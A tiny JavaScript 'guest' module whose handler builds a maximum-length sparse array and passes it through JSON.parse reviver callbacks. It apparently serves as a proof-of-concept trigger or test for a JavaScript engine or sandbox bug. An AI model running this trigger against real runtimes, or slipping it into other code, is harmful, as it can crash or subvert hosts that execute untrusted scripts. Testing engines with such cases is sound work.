// kind: guest
export default (msg, ctx) => {
	if (msg.payload.ok) return msg;
	const holes = []; holes.length = 4294967295;
	JSON.parse('[1,2]', Reflect.set.bind(null, holes, 0))
	JSON.parse('[1,2]', function (k, v) { if (k === '0') { this[1] = holes } return v })
}
